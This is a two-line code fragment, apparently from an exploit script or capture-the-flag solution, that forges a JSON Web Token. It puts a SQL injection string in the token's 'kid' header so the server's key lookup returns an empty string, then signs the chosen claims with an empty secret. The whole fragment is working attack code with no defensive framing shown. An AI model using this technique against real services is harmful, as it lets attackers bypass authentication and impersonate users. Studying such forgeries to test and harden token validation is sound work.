# the empty text as secret
queried = forge({"alg": "HS256", "kid": "' UNION SELECT '"}, wanted, secret=b"")
